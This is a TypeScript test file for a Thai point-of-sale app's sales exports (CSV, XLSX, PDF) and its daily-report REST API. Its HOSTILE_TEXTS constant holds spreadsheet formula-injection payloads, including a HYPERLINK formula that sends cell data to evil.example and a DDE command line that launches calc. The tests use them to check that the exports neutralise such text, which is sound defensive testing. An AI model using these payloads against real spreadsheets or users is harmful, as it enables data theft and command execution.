// Exports read back: CSV (BOM, Thai intact, parsed), XLSX (exceljs) and PDF (pdfjs text), with
// progress events, the REST report API and the browser download, all on a real core and server.
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openLedger } from '../../../electron/core/ledger/open-ledger';
import type { DailyReport, ExportJob } from '../../../shared/manager-types';
import { TENDERS, type Tender } from '../../../shared/tender';
import type { PosEvent } from '../../../shared/pos-contract';
import { call, signedInContext } from '../../support/core-harness';
import { callPos, startTestTill, TEST_API_TOKEN, type TestTill } from '../http/http-test-till';
import { seedRefunds, seedSaleId, seedSales, type SeedSale } from './seed-ledger';

const DAY = '2026-03-08';
const start = Date.parse('2026-03-08T00:00:00+07:00');
const ROWS = 6_000;
/** A day whose few sales carry text a spreadsheet would run as a formula. */
const HOSTILE_DAY = '2026-03-09';
const TENDER_OF = (i: number): Tender => (i % 7 === 3 ? 'cash' : i % 11 === 5 ? 'promptpay_manual' : 'promptpay');
const HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTab first', '\rCR first', 'Plain tea'];
let till: TestTill;
let sales: SeedSale[];

beforeAll(async () => {
  till = await startTestTill();
  sales = Array.from({ length: ROWS }, (_, i) => ({
    id: seedSaleId(i + 1),
    amount: 1_000 + (i % 500) * 7,
    status: i % 10 === 9 ? 'expired' : 'succeeded',
    // Spread over the business day, the last one at 23:59:59.
    createdAt: start + Math.floor((i * (24 * 3_600_000 - 1_000)) / (ROWS - 1)),
    cashierId: 'csh_nok0000001',
    cashier: 'น้อย',
    description: i % 2 ? 'ข้าวผัดกุ้ง' : 'Iced tea, large',
    orderRef: `T-${i}`,
    // Every tender; Stripe's fee on the PromptPay ones, except a few it has not reported.
    tender: i % 10 === 9 ? 'promptpay' : TENDER_OF(i),
    stripeFee: i % 10 !== 9 && TENDER_OF(i) === 'promptpay' && i % 13 !== 0 ? Math.round((1_000 + (i % 500) * 7) * 0.0165) : null,
  }));
  const db = openLedger(path.join(till.dataDir, 'ledger.sqlite3'));
  seedSales(db, sales);
  seedRefunds(db, [{ id: 'rfd_seed0000000001', saleId: sales[0].id, amount: 500, status: 'succeeded', createdAt: start + 60_000 }]);
  const hostileStart = Date.parse(`${HOSTILE_DAY}T09:00:00+07:00`);
  seedSales(db, HOSTILE_TEXTS.map((text, i) => ({
    id: seedSaleId(ROWS + 1 + i),
    amount: 1_000 + i,
    status: 'succeeded',
    createdAt: hostileStart + i * 60_000,
    cashierId: 'csh_evil000001',
    cashier: text,
    description: text,
    orderRef: text,
  })));
  db.close();
});
afterAll(async () => {
  await till?.close();
});

const paid = () => sales.filter((s) => s.status === 'succeeded');
const bahtTotal = () => paid().reduce((sum, s) => sum + s.amount, 0);
const paidBy = (tender: Tender) => paid().filter((s) => (s.tender ?? 'promptpay') === tender);

async function exportOnDesktop(format: 'csv' | 'xlsx' | 'pdf', day = DAY, rows = ROWS): Promise<{ job: ExportJob; progress: ExportJob[] }> {
  const progress: ExportJob[] = [];
  const context = await signedInContext(till.core);
  let resolveDone!: (job: ExportJob) => void;
  const done = new Promise<ExportJob>((resolve) => (resolveDone = resolve));
  let startedId: string | null = null;
  const stop = till.core.subscribe((event: PosEvent) => {
    if (event.type !== 'export.progress') return;
    progress.push(event.data);
    if (event.data.status !== 'running' && event.data.id === startedId) resolveDone(event.data);
  });
  try {
    const started = await call<ExportJob>(till.core, 'reports.export', { from: day, to: day, format }, context);
    startedId = started.id;
    expect(started).toMatchObject({ status: 'running', total: rows, done: 0 });
    const job = await done;
    return { job, progress: progress.filter((p) => p.id === started.id) };
  } finally {
    stop();
  }
}

describe('exports', () => {
  it('writes a CSV with a BOM that keeps Thai intact, reports progress and adds up to the ledger', async () => {
    const { job, progress } = await exportOnDesktop('csv');
    expect(job).toMatchObject({ status: 'done', done: ROWS, total: ROWS, fileName: `chamra-sales-${DAY}-${job.id}.csv`, downloadUrl: null });
    expect(path.basename(job.filePath!)).toBe(job.fileName);
    expect(progress.length).toBeGreaterThanOrEqual(2);
    expect(progress.map((p) => p.done)).toEqual([...progress.map((p) => p.done)].sort((a, b) => a - b));
    const bytes = fs.readFileSync(job.filePath!);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
    expect(lines).toHaveLength(ROWS + 1);
    expect(lines[0]).toBe('Created (local),Sale id,Status,Tender,Amount (THB),Refunded (THB),Net (THB),Description,Order reference,Cashier,Till,Source,PaymentIntent id,Paid at (local),Flagged,Mode,Stripe account');
    expect(lines[1]).toBe(`2026-03-08 00:00:00,${sales[0].id},succeeded,promptpay,10.00,5.00,5.00,"Iced tea, large",T-0,น้อย,till-1,till,pi_${sales[0].id.slice(5)},2026-03-08 00:00:30,,demo,`);
    expect(lines[2]).toContain(',ข้าวผัดกุ้ง,');
    // A cash sale: no PaymentIntent.
    expect(lines[4]).toBe(`${lines[4].slice(0, 19)},${sales[3].id},succeeded,cash,10.21,0.00,10.21,ข้าวผัดกุ้ง,T-3,น้อย,till-1,till,,${lines[4].split(',')[13]},,demo,`);
    expect(lines.at(-1)).toMatch(/^2026-03-08 23:59:59,/);
    const paidRows = lines.slice(1).map((line) => line.split(',')).filter((cells) => cells[2] === 'succeeded');
    const total = (rows: string[][]) => rows.reduce((sum, cells) => sum + Math.round(Number(cells[4]) * 100), 0);
    expect(total(paidRows)).toBe(bahtTotal());
    for (const tender of TENDERS) expect(total(paidRows.filter((cells) => cells[3] === tender)), tender).toBe(paidBy(tender).reduce((sum, s) => sum + s.amount, 0));
  });

  it('writes an XLSX that exceljs reads back with a per-day summary and every sale', async () => {
    const { job } = await exportOnDesktop('xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(job.filePath!);
    const summary = workbook.getWorksheet('Summary')!;
    expect((summary.getRow(2).values as unknown[]).slice(0, 8)).toEqual([undefined, DAY, paid().length, bahtTotal() / 100, 1, 5, (bahtTotal() - 500) / 100, ROWS - paid().length]);
    // By tender (the refund was on a PromptPay sale), refunds, Stripe's fees and payout.
    const byHeader = (name: string) => summary.getRow(2).getCell((summary.getRow(1).values as string[]).indexOf(name)).value;
    const baht = (rows: { amount: number }[]) => Math.round(rows.reduce((sum, s) => sum + s.amount, 0)) / 100;
    expect(byHeader('PromptPay (Stripe) · พร้อมเพย์ (ผ่าน Stripe): net (THB)')).toBe(baht(paidBy('promptpay')) - 5);
    expect(byHeader('Cash · เงินสด: paid (THB)')).toBe(baht(paidBy('cash')));
    expect(byHeader('PromptPay by hand, unverified · พร้อมเพย์ยืนยันเอง ยังไม่ได้ตรวจสอบ: net (THB)')).toBe(baht(paidBy('promptpay_manual')));
    const fees = paidBy('promptpay').reduce((sum, s) => sum + (s.stripeFee ?? 0), 0);
    expect(byHeader('Stripe fees · ค่าธรรมเนียม Stripe (THB)')).toBe(fees / 100);
    expect(byHeader('Stripe net payout · ยอดสุทธิที่ Stripe โอนให้ร้าน (THB)')).toBeCloseTo((paidBy('promptpay').reduce((sum, s) => sum + s.amount, 0) - 500 - fees) / 100, 2);
    expect(byHeader('Refunds paid out · คืนเงินแล้ว (THB)')).toBe(5);
    const sheet = workbook.getWorksheet('Sales')!;
    expect(sheet.rowCount).toBe(ROWS + 1);
    expect(sheet.getRow(3).getCell(8).value).toBe('ข้าวผัดกุ้ง');
    expect(sheet.getRow(2).getCell(5).value).toBe(10);
    expect(sheet.getRow(2).getCell(4).value).toBe('PromptPay (Stripe) · พร้อมเพย์ (ผ่าน Stripe)');
    expect(sheet.getRow(7).getCell(4).value).toBe('PromptPay by hand, unverified · พร้อมเพย์ยืนยันเอง ยังไม่ได้ตรวจสอบ');
  });

  // A hundred pages of 6,000 rows: seconds on a busy machine.
  it('writes a PDF whose text holds the totals, Thai descriptions and the Stripe ids', { timeout: 90_000 }, async () => {
    const { job } = await exportOnDesktop('pdf');
    const pdfjs = await import('pdfjs-dist/legacy/build/pdf.mjs');
    const document = await pdfjs.getDocument({ data: new Uint8Array(fs.readFileSync(job.filePath!)), useSystemFonts: false }).promise;
    const first = (await (await document.getPage(1)).getTextContent()).items.map((item) => ('str' in item ? item.str : '')).join(' ');
    expect(first).toContain('Daily report 2026-03-08 (Asia/Bangkok)');
    expect(first).toContain(String(paid().length));
    expect(first).toContain((bahtTotal() / 100).toFixed(2));
    expect(first).toContain(sales[0].id);
    expect(first).toContain(`pi_${sales[0].id.slice(5)}`);
    expect(first).toContain('ข้าวผัดกุ้ง');
    // Totals by tender, Stripe's fees and payout; hand-confirmed PromptPay says it is unverified.
    expect(first).toContain('By tender');
    expect(first).toContain('PromptPay by hand, unverified');
    expect(first).toContain((paidBy('cash').reduce((sum, s) => sum + s.amount, 0) / 100).toFixed(2));
    expect(first).toContain('Stripe fees');
    expect(first).toContain('Stripe net payout');
    const second = (await (await document.getPage(2)).getTextContent()).items.map((item) => ('str' in item ? item.str : '')).join(' ');
    expect(second).toContain('By hand, unverified');
    expect(document.numPages).toBeGreaterThan(100);
  });

  it('keeps two desktop exports of the same range as two files, each named with its job id', async () => {
    // Regression: the second export of a range overwrote the first.
    const first = (await exportOnDesktop('csv', HOSTILE_DAY, HOSTILE_TEXTS.length)).job;
    const second = (await exportOnDesktop('csv', HOSTILE_DAY, HOSTILE_TEXTS.length)).job;
    expect(first.id).not.toBe(second.id);
    expect(first.filePath).not.toBe(second.filePath);
    for (const job of [first, second]) {
      expect(job.fileName).toBe(`chamra-sales-${HOSTILE_DAY}-${job.id}.csv`);
      expect(path.basename(job.filePath!)).toBe(job.fileName);
      expect(fs.existsSync(job.filePath!)).toBe(true);
    }
  });

  it('writes text that starts like a formula into the CSV behind a single quote, so no spreadsheet runs it', async () => {
    // Regression (CSV injection): description, order reference and cashier name were written raw.
    const { job } = await exportOnDesktop('csv', HOSTILE_DAY, HOSTILE_TEXTS.length);
    const [header, ...rows] = parseCsv(fs.readFileSync(job.filePath!, 'utf8').slice(1));
    const column = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(HOSTILE_TEXTS.length);
    const expected = HOSTILE_TEXTS.map((text) => (text === 'Plain tea' ? text : `'${text}`));
    for (const name of ['Description', 'Order reference', 'Cashier']) expect(rows.map((row) => row[column(name)]), name).toEqual(expected);
    // Numbers stay numbers.
    expect(rows.map((row) => row[column('Amount (THB)')])).toEqual(HOSTILE_TEXTS.map((_, i) => (10 + i / 100).toFixed(2)));
    expect(rows.every((row) => row.every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
  });

  it('keeps the same text in the XLSX as plain strings, exactly as typed, never as formulas', async () => {
    const { job } = await exportOnDesktop('xlsx', HOSTILE_DAY, HOSTILE_TEXTS.length);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(job.filePath!);
    const sheet = workbook.getWorksheet('Sales')!;
    HOSTILE_TEXTS.forEach((text, i) => {
      for (const column of [8, 9, 10]) {
        const cell = sheet.getRow(i + 2).getCell(column);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // As typed, with no quote added (XML reads a bare carriage return back as a line feed).
        expect(cell.value).toBe(text.replace(/\r/g, '\n'));
      }
    });
  });

  it('refuses an export to a client that is not signed in, writing nothing', async () => {
    const before = fs.existsSync(path.join(till.dataDir, 'exports')) ? fs.readdirSync(path.join(till.dataDir, 'exports')).length : 0;
    const anonymous = await till.core.dispatch('reports.export', { from: DAY, to: DAY, format: 'csv' }, { transport: 'http', clientKey: 'http:stranger' });
    expect(anonymous).toMatchObject({ ok: false, error: { code: 'unauthorized' } });
    const after = fs.existsSync(path.join(till.dataDir, 'exports')) ? fs.readdirSync(path.join(till.dataDir, 'exports')).length : 0;
    expect(after).toBe(before);
  });

  it('lets the browser that asked download its export, and nobody else', async () => {
    const { body } = await callPos<ExportJob>(till, 'reports.export', { from: DAY, to: DAY, format: 'csv' });
    expect(body.ok).toBe(true);
    const finished = new Promise<void>((resolve) => {
      const stop = till.core.subscribe((event) => {
        if (event.type === 'export.progress' && event.data.id === body.value.id && event.data.status !== 'running') {
          stop();
          resolve();
        }
      });
    });
    const now = (await callPos<ExportJob>(till, 'reports.exportStatus', { jobId: body.value.id })).body.value;
    if (now.status === 'running') await finished;
    const job = (await callPos<ExportJob>(till, 'reports.exportStatus', { jobId: body.value.id })).body.value;
    expect(job).toMatchObject({ status: 'done', filePath: null, downloadUrl: `/api/exports/${job.id}/file` });
    const mine = await fetch(`${till.url}${job.downloadUrl}`, { headers: { cookie: till.cookie! } });
    expect(mine.status).toBe(200);
    expect(mine.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(mine.headers.get('content-disposition')).toContain(`chamra-sales-${DAY}.csv`);
    expect((await mine.arrayBuffer()).byteLength).toBeGreaterThan(ROWS * 50);
    const theirs = await fetch(`${till.url}${job.downloadUrl}`);
    expect(theirs.status).toBe(404);
  });
});

describe('GET /reports/daily', () => {
  const get = (query: string, token: string | null = TEST_API_TOKEN) =>
    fetch(`${till.url}/reports/daily?${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });

  it('answers the DailyReport as JSON with the bearer token', async () => {
    const response = await get(`date=${DAY}&format=json`);
    expect(response.status).toBe(200);
    const report = (await response.json()) as DailyReport;
    expect(report).toMatchObject({ date: DAY, timeZone: 'Asia/Bangkok', paid: { count: paid().length, amount: bahtTotal() }, refunded: { count: 1, amount: 500 }, net: bahtTotal() - 500 });
    expect(report.payments).toHaveLength(paid().length);
  });

  it('gives the JSON report its totals by tender and Stripe’s fees, in satang, and each payment’s tender', async () => {
    const report = (await (await get(`date=${DAY}&format=json`)).json()) as DailyReport;
    const sum = (rows: { amount: number }[]) => rows.reduce((total, s) => total + s.amount, 0);
    expect(report.tenders).toEqual({
      promptpay: { count: paidBy('promptpay').length, gross: sum(paidBy('promptpay')), refunded: 500, net: sum(paidBy('promptpay')) - 500 },
      cash: { count: paidBy('cash').length, gross: sum(paidBy('cash')), refunded: 0, net: sum(paidBy('cash')) },
      promptpay_manual: { count: paidBy('promptpay_manual').length, gross: sum(paidBy('promptpay_manual')), refunded: 0, net: sum(paidBy('promptpay_manual')) },
    });
    const fees = paidBy('promptpay').reduce((total, s) => total + (s.stripeFee ?? 0), 0);
    expect(report).toMatchObject({
      stripeFees: fees,
      stripeFeesUnknown: paidBy('promptpay').filter((s) => s.stripeFee === null).length,
      stripeNetPayout: sum(paidBy('promptpay')) - 500 - fees,
      refundsPaidOut: { count: 1, amount: 500 },
      refundsWaiting: { count: 0, amount: 0 },
      dayStartHour: 0,
    });
    expect(report.stripeFeesUnknown).toBeGreaterThan(0);
    expect(report.payments.map((p) => p.tender)).toEqual(paid().map((s) => s.tender ?? 'promptpay'));
  });

  it.each([
    ['csv', 'text/csv; charset=utf-8', [0xef, 0xbb, 0xbf]],
    ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', [0x50, 0x4b, 0x03]],
    ['pdf', 'application/pdf', [0x25, 0x50, 0x44]],
  ] as const)('streams the %s file with its content type and file name', { timeout: 90_000 }, async (format, type, magic) => {
    const response = await get(`date=${DAY}&format=${format}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(type);
    expect(response.headers.get('content-disposition')).toContain(`filename="chamra-sales-${DAY}.${format}"`);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual(magic);
  });

  it('refuses a missing or wrong token and a malformed date', async () => {
    expect((await get(`date=${DAY}`, null)).status).toBe(401);
    expect((await get(`date=${DAY}`, 'wrong-token')).status).toBe(401);
    const bad = await get('date=2026-13-01');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: { code: 'invalid_input', field: 'date' } });
    // Regression: a day that does not exist was read as the 3rd of March.
    const impossible = await get('date=2026-02-31');
    expect(impossible.status).toBe(400);
    expect(await impossible.json()).toMatchObject({ error: { code: 'invalid_input', field: 'date' } });
    expect((await get('date=2024-02-29')).status).toBe(200);
  });

  it('refuses an impossible day in the manager’s report, export and search too', async () => {
    const context = await signedInContext(till.core);
    for (const [op, input] of [
      ['reports.daily', { date: '2026-02-31' }],
      ['reports.export', { from: '2026-02-30', to: '2026-03-01', format: 'csv' }],
      ['sales.search', { from: '2026-04-31', to: '2026-04-31' }],
    ] as const) {
      expect(await till.core.dispatch(op, input, context), op).toMatchObject({ ok: false, error: { code: 'invalid_input', message: expect.stringMatching(/no such day/) } });
    }
  });
});

/** RFC 4180 as csv-stringify writes it: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}
